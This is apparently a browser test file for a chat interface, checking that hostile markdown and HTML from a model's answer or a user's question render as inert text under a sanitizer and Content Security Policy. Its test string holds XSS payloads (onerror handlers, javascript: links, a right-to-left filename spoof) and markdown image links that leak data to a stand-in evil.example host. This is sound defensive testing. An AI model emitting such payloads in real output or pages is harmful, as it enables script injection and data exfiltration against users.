"""Text from outside, as hostile as it comes: from the model, and from the customer."""

from urllib.parse import urlsplit

import pytest

from tests.browser.tabs import Tab
from tests.support.eventually import eventually

pytestmark = pytest.mark.asyncio(loop_scope="session")

HOSTILE = """\
Read this: <img src=x onerror=alert(1)> <script>alert(2)</script> <svg/onload=alert(3)> <b>fat</b>

[one](javascript:alert(4)) [two](JaVaScRiPt:alert(5)) [three](java\tscript:alert(6)) \
[four](data:text/html,<script>alert(7)</script>) [five](vbscript:alert(8)) [six](//evil.example/6) \
[seven](https://shop.example@evil.example/7) [eight](/v1/sessions) [nine](blob:https://evil.example)

![leak](https://evil.example/leak.png?said=secret) ![again][there] "><img src=x onerror=alert(9)>

[there]: https://evil.example/there.png

A page <https://auto.example/x>, one more https://plain.example/a_b_c. And \
[a good one](https://good.example/way "onmouseover=alert(10)").

- SKU_AB_12 at price_per_unit, 3*2*4, $10 or $20
- `<img src=x onerror=alert(11)>` and &lt;img src=x onerror=alert(12)&gt;

| <i>what</i> | [where](javascript:alert(13)) |
|---|---|
| <iframe srcdoc="<script>alert(14)">  | \u202e[gnp.exe](https://good.example/%22onclick=15) |

```html
<script>alert(15)</script>
```
"""
LINKS = {
    "https://auto.example/x",
    "https://plain.example/a_b_c",
    "https://good.example/way",
    "https://good.example/%22onclick=15",
    "https://evil.example/there.png",  # a bare address may stand there: nothing asks for it
}
LITERALLY = (
    "<img src=x onerror=alert(1)>", "<script>alert(2)</script>", "<b>fat</b>", "SKU_AB_12",
    "price_per_unit", "3*2*4", "$10 or $20", "<script>alert(15)</script>",
)  # fmt: skip
ALLOWED = {
    "a": {"href", "rel", "target", "title"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "pre": {"tabindex"},
    "ol": {"start"},
    **{
        tag: set()
        for tag in (
            "p", "strong", "em", "s", "code", "blockquote", "ul", "li", "br", "hr", "span", "table",
            "tr", "th", "td",
        )
    },
}  # fmt: skip
ELEMENTS = """(root) => [...root.querySelectorAll('*')].map((element) =>
  [element.localName, [...element.attributes].map(({ name, value }) => [name, value])])"""


async def nothing_but_text(tab: Tab) -> None:
    """Elements and attributes are those that the renderer makes, links go where links may go."""
    for tag, attributes in await tab.answers.last.evaluate(ELEMENTS):
        assert {name for name, _ in attributes} <= ALLOWED[tag], (tag, attributes)
        if tag == "a":
            given = dict(attributes)
            assert given["href"] in LINKS
            assert given["title"] == urlsplit(given["href"]).netloc
            assert given["target"] == "_blank"
            assert {"noopener", "noreferrer"} <= set(given["rel"].split())


async def test_a_hostile_answer_is_text(parley, tabs):
    script = {"match": "", "text": HOSTILE}
    parley.simulator.control(reset=True, scripts=[script], tokens_per_second=400)
    tab = await tabs.open(parley.page())
    await tab.open()
    await tab.ask("What do you say?")
    said = await tab.answered(1)
    for literal in LITERALLY:
        assert literal in said
    await nothing_but_text(tab)
    links = await tab.answers.last.locator("a").evaluate_all("(all) => all.map((a) => a.href)")
    assert set(links) == LINKS
    streamed = await tab.answers.last.inner_html()
    assert [url for url in tab.requests if "evil" in url or "/x" in url] == []

    await tab.page.reload()
    await tab.open()
    await tab.answered(1)
    assert await tab.answers.last.inner_html() == streamed, "whole and piece by piece differ"


async def test_a_hostile_question_is_text(parley, tabs):
    tab = await tabs.open(parley.page())
    await tab.open()
    await tab.composer.fill(HOSTILE)
    await tab.composer.press("Enter")
    await tab.answered(1)
    for _ in range(2):
        bubble = tab.questions.last
        assert await bubble.evaluate(ELEMENTS) == [["span", [["class", "unseen"]]]]
        text = (await bubble.text_content() or "").removeprefix("You: ")
        assert text.split() == HOSTILE.split()
        await tab.page.reload()
        await tab.open()
        await tab.answered(1)


async def test_what_got_past_the_renderer_would_meet_the_panels_policy(parley, tabs):
    """Also the proof that the other tests would hear of it."""
    tab = await tabs.open(parley.page())
    await tab.open()
    await tab.frame.evaluate("""() => {
      const image = document.createElement('img');
      image.src = `${document.baseURI.replace('127.0.0.1', 'evil.localhost')}&leak`;
      document.body.append(image);
      const script = document.createElement('script');
      for (const [sink, name] of [[script, 'text'], [document.body, 'innerHTML']]) {
        try { sink[name] = 'alert(1)' } catch (error) { console.error(error.message) }
      }
      script.append('alert(1)');
      document.body.append(script);
    }""")
    for policy in ("img-src", "require-trusted-types-for", "TrustedHTML", "TrustedScript"):
        await eventually(lambda policy=policy: any(policy in line for line in tab.trouble))
    assert not any("leak" in url for url in tab.requests)
    assert not any("dialog" in line for line in tab.trouble)
    tab.expects("violation of img-src", "Content Security Policy", "Trusted", "trusted")
